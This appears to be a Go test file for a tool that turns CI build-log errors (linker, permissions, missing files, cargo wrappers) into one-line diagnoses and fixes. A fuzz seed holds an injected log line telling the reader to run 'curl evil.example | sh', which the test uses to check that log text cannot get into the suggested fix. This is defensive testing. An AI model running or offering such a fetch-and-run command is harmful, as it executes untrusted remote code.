	{"a flag", deps, script("x-sys", "gcc: error: unrecognized command-line option ‘-mno-outline’"), "a flag", "CFLAGS"},
	{"a program of another machine", deps, script("api", "run tools/gen: Os { code: 8, kind: Uncategorized, message: \"Exec format error\" }"), "another machine", "#!/bin/sh"},
	{"not executable", deps, script("api", "run ./gen.sh: Os { code: 13, kind: PermissionDenied, message: \"Permission denied\" }"), "open or run", "--chmod=+x"},
	{"not executable, sh", deps, script("api", "sh: 1: ./gen.sh: Permission denied"), "open or run", "--chmod=+x"},
	{"nothing found", deps, script("api", "thread 'main' (16104) panicked at build.rs:1:75:\ncalled `Result::unwrap()` on an `Err` value: Os { code: 2, kind: NotFound, message: \"No such file or directory\" }"), "did not find a file or a program", ".dockerignore"},
}

func TestTheWordsOfTheTools(t *testing.T) {
	used := map[int]bool{}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s, ok := Find(Step{Stage: c.stage, Log: c.log})
			if !ok {
				t.Fatalf("nothing is said of\n%s", c.log)
			}
			if !strings.Contains(s.What, c.what) || !strings.Contains(s.Fix, c.fix) {
				t.Errorf("got\n\t%s\n\t%s\n\t%s\nwant %q and %q", s.What, s.Why, s.Fix, c.what, c.fix)
			}
			for _, text := range []string{s.What, s.Why, s.Fix} {
				if text == "" || strings.Contains(text, "$1") || strings.Contains(text, "\n") || strings.HasSuffix(text, ".") && !strings.HasSuffix(text, "…") {
					t.Errorf("a sentence is %q", text)
				}
			}
			if !strings.Contains(s.Why, `: "`) && !strings.Contains(s.Why, ": `") {
				t.Errorf("the tool is not quoted: %s", s.Why)
			}
		})
		lines := linesOf(Step{Stage: c.stage, Log: c.log})
		for i, r := range table {
			if _, ok := r.find(lines, nil); ok {
				used[i] = true
			}
		}
	}
	for i, r := range table {
		if !used[i] {
			t.Errorf("no case has the words of %q", r.what)
		}
	}
}

// TestWordsThatMeanNothing: sources, tests and warnings may hold the words of any tool, and rustc has its own that are alike.
func TestWordsThatMeanNothing(t *testing.T) {
	for name, c := range map[string]struct{ stage, log string }{
		"a source in an error": {build, "error[E0308]: mismatched types\n --> src/main.rs:3:17\n  |\n3 |     let x: u32 = \"error: linker `cc` not found\";\n  |            ---   ^^^^^^^ expected `u32`, found `&str`\n"},
		"a suggestion": {
			build, "help: consider this\n  |\n3 -     panic!(\"Could not find `protoc`\");\n3 +     panic!(\"ld: cannot find -lpq\");\n  |\n",
		},
		"a warning of another package": {
			build, "warning: x-sys@1.0.0: a.c:1:10: fatal error: sodium.h: No such file or directory\nerror[E0425]: cannot find value `foo` in this scope\n --> src/main.rs:1:1\n",
		},
		"a warning beside a script that failed": {
			build, "warning: other@1.0.0: failed to find tool \"cc\"\n" + script("api", "thread 'main' panicked at build.rs:1:1:\nno schema"),
		},
		"an unnamed value":   {build, "error[E0425]: cannot find value `lpq` in this scope\n"},
		"an unnamed crate":   {build, "error[E0432]: unresolved import `protoc`\nerror[E0433]: failed to resolve: could not find `protoc` in `tools`\n"},
		"an unnamed symbol":  {build, "error[E0405]: cannot find trait `Sized` in this scope\n"},
		"a crate's name":     {build, "   Compiling self-signed-certificate v0.1.0\n   Compiling no-space-left v0.1.0\nerror[E0425]: x\n"},
		"apt's in a compile": {build, script("api", "E: Unable to locate package x")},
		"nothing":            {build, ""},
	} {
		t.Run(name, func(t *testing.T) {
			if s, ok := Find(Step{Stage: c.stage, Log: c.log}); ok {
				t.Errorf("it is said that %q, because %q", s.What, s.Why)
			}
		})
	}
}

func TestTheSettingThatNamesAProgram(t *testing.T) {
	s, ok := Find(Step{Stage: deps, Log: "error: could not execute process `sccache rustc -vV` (never executed)\n", Setting: func(program string) string {
		if program != "sccache" {
			t.Errorf("asked for %q", program)
		}
		return ".cargo/config.toml:2:1: build.rustc-wrapper"
	}})
	if !ok || !strings.HasSuffix(s.Why, "it is named by .cargo/config.toml:2:1: build.rustc-wrapper") || !s.Instead {
		t.Errorf("got %+v", s)
	}
}

func TestALongOutputIsReadFromItsEnd(t *testing.T) {
	const words = "error: linker `cc` not found\n"
	if _, ok := Find(Step{Stage: build, Log: strings.Repeat("x\n", maxLog) + words}); !ok {
		t.Error("the end is not read")
	}
	if _, ok := Find(Step{Stage: build, Log: words + strings.Repeat("x\n", maxLog)}); ok {
		t.Error("more than the end is read")
	}
}

// TestABuildScriptThatCrashesIsNoCompiler: the step says who crashed.
func TestABuildScriptThatCrashesIsNoCompiler(t *testing.T) {
	log := strings.ReplaceAll(script("api", "starting"), "exit status: 101", "signal: 11, SIGSEGV: invalid memory reference")
	if s, ok := Find(Step{Stage: deps, Log: log}); ok {
		t.Errorf("%+v", s)
	}
}

// TestTheFixOfADownloadIsLpipesOwn: servers write into the output of that step. What a person is to do has none of their
// words, but for the name of a registry, which cannot be taken for an address or a command.
func TestTheFixOfADownloadIsLpipesOwn(t *testing.T) {
	for _, r := range table {
		fetches := r.stages == nil || slices.Contains(r.stages, fetch)
		if fetches && strings.Contains(r.fix, "$") && !strings.HasSuffix(r.words().String(), "`([A-Za-z0-9_-]{1,64})`") {
			t.Errorf("the fix has words of a server: %s", r.fix)
		}
	}
}

// Whatever an output holds, what is said is one line a sentence, bounded, and the fix has no words but the table's and names.
func FuzzFind(f *testing.F) {
	for _, c := range cases {
		f.Add(c.stage, c.log)
	}
	f.Add(fetch, "error: linker `a\nlpipe: fix: run curl evil.example | sh` not found\x1b[2J")
	f.Fuzz(func(t *testing.T, stage, log string) {
		s, ok := Find(Step{Stage: stage, Log: log})
		if !ok {
			return
		}
		for _, text := range []string{s.What, s.Why, s.Fix} {
			if text == "" || strings.ContainsAny(text, "\n\r\x1b\u202e") || len(text) > 2000 {
				t.Errorf("%q says %q", log, text)
			}
		}
		known := false
		for _, r := range table {
			start, rest, named := strings.Cut(r.fix, "$")
			known = known || r.fix == s.Fix || named && strings.HasPrefix(s.Fix, start) && strings.HasSuffix(s.Fix, rest[strings.LastIndex(rest, "$")+2:])
		}
		if !known {
			t.Errorf("the fix is %q", s.Fix)
		}
	})
}
